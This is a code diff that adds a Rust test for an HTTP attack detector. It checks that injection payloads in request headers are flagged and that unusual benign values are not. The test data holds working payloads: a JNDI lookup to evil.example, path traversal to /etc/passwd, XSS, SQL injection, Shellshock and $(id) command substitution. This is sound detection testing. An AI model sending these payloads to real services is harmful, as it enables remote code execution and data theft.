@@ -80,6 +80,38 @@ fn a_header_that_held_nothing_is_not_looked_at_again() {
     assert_eq!(steps("127.0.0.1:8080", all), (false, true), "the oldest was forgotten");
 }
 
+#[test]
+fn attacks_in_headers_of_the_protocol_were_not_looked_at() {
+    let types = |name: &str, value: &str| {
+        let exchange = FakeExchange::get("/").header(name, value);
+        detect(&exchange, AttackKinds::all(), &mut Workspace::default())
+    };
+    for name in ["Accept", "Accept-Language", "Cache-Control", "Content-Type", "If-None-Match"] {
+        for (value, kind) in [
+            ("text/html;q=${jndi:ldap://evil.example/a}", AttackKind::JndiInjection),
+            ("../../../../../etc/passwd", AttackKind::PathTraversal),
+            ("x<script>alert(1)</script>", AttackKind::Xss),
+            ("en' OR '1'='1", AttackKind::Sqli),
+            ("() { :; }; /bin/id", AttackKind::CommandInjection),
+            ("$(id)", AttackKind::CommandInjection),
+        ] {
+            assert!(types(name, value).has(kind), "{name}: {value}");
+        }
+    }
+    for (name, value) in [
+        ("Accept", "text/html,application/xhtml+xml;q=0.9,image/avif,*/*;q=0.8,application/x;v=b3"),
+        ("Accept", "application/json; profile='https://example.com/{a}'"),
+        ("Accept-Language", "de-CH,de;q=0.9,en;q=0.8,*;q=0.5"),
+        ("Cache-Control", "no-cache, max-age=0, stale-while-revalidate=60"),
+        ("Content-Type", "multipart/form-data; boundary='----=_Part_{12}_3'"),
+        ("If-None-Match", "W/\"5e-17a'b{c}\", \"(a)\""),
+        ("sec-ch-ua", "\"Chromium\";v=\"130\", \"Not(A:Brand\";v=\"99\", \"?Not;A)Brand\";v=\"8\""),
+        ("Authorization", "Bearer x<script>alert(1)</script>"),
+    ] {
+        assert!(types(name, value).is_empty(), "{name}: {value}");
+    }
+}
+
 /// Values of 16 KB made only to be expensive.
 fn hostile() -> impl Iterator<Item = Vec<u8>> {
     const UNITS: &[&str] = &[
